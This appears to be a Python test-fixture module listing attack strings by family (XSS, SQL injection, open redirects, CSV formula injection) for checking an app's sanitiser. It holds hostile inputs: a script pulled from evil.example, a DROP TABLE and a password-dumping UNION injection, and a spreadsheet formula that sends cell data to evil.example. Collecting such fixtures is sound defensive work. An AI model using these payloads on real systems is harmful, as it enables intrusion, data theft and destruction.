"""
Attack strings, grouped by family so the suite can report how many of each it ran.
Drawn from the usual public corpora (OWASP's XSS filter evasion cheat sheet, PortSwigger's
XSS cheat sheet, sqlmap's boundaries); every one is real enough to fire in a browser or
a database that trusted it.
"""
from __future__ import annotations

XSS: dict[str, list[str]] = {
    "script-tags": [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script/xss>alert(document.cookie)</script>",
        "\"><script>alert(1)</script>",
        "'</title><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>",
        "<<SCRIPT>alert(1);//<</SCRIPT>",
    ],
    "event-handlers": [
        "<img src=x onerror=alert(1)>",
        "<body onload=alert(1)>",
        "<div onmouseover=\"alert(1)\">hover</div>",
        "<p onclick=alert(1)>click</p>",
        "<a href=\"https://example.com\" onfocus=alert(1) autofocus>x</a>",
        "<input autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=\"alert(1)\"></video>",
        "\" onmouseover=\"alert(1)",
        "<strong onpointerenter=alert(1)>bold</strong>",
    ],
    "javascript-urls": [
        "<a href=\"javascript:alert(1)\">link</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">link</a>",
        "<a href=\" javascript:alert(1)\">link</a>",
        "<a href=\"java\tscript:alert(1)\">link</a>",
        "<a href=\"&#106;avascript:alert(1)\">link</a>",
        "<a href=\"vbscript:msgbox(1)\">link</a>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "javascript:alert(document.domain)",
    ],
    "data-urls": [
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
        "<embed src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    ],
    "svg": [
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    ],
    "encoded": [
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
        "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "&#60;img src=x onerror=alert(1)&#62;",
        "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">x</a>",
        "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
        "\x00<script>alert(1)</script>",
    ],
    "multi-line": [
        "<img\nsrc=x\nonerror=alert(1)>",
        "<a\nhref=\"java\nscript:alert(1)\">x</a>",
        "<script>\nalert(1)\n</script>",
        "<div\r\nonclick=alert(1)>x</div>",
        "line one\n<iframe\nsrc=https://evil.example></iframe>\nline three",
        "<style>\nbody { background: url(javascript:alert(1)) }\n</style>",
    ],
    "template-syntax": [
        "{{ 7|add:7 }}",
        "{% load static %}{% debug %}",
        "{{ request.user.password }}",
        "${7*7}",
        "{{constructor.constructor('alert(1)')()}}",
        "<%= 7*7 %>",
    ],
}

# What a cleaned value may never contain once parsed as HTML.
EXECUTABLE_TAGS = frozenset({
    "script", "iframe", "object", "embed", "svg", "math", "style", "link", "meta", "base", "form", "input", "img",
    "video", "audio", "source", "body", "details", "frame", "frameset", "applet", "textarea",
})
SAFE_URL_SCHEMES = ("http://", "https://", "mailto:", "/", "#", "?")

SQL_INJECTION: list[str] = [
    "' OR '1'='1",
    "' OR 1=1 --",
    "\" OR \"\"=\"",
    "1; DROP TABLE incidents_incident; --",
    "1' UNION SELECT username, password FROM accounts_user --",
    "1) OR (1=1",
    "' AND SLEEP(5) --",
    "'; SELECT pg_sleep(5); --",
    "1 OR 1=1",
    "-1",
    "99999999999999999999999",
    "%' OR '%'='",
    "\\'; --",
    "admin'--",
    "1e309",
    "NULL",
    "\x00",
    "title__contains",
    "reporter__password__startswith",
    "-reporter__password",
]

OPEN_REDIRECTS: list[str] = [
    "https://evil.example/",
    "//evil.example/",
    "///evil.example/",
    "/\\evil.example/",
    "\\\\evil.example",
    "https:evil.example",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "http://testserver@evil.example/",
    " https://evil.example/",
    "%2F%2Fevil.example",
    "/%09/evil.example",
    "https://evil.example%23.testserver/",
]

# Spreadsheet formula injection, for the CSV export.
CSV_FORMULAS: list[str] = [
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
]
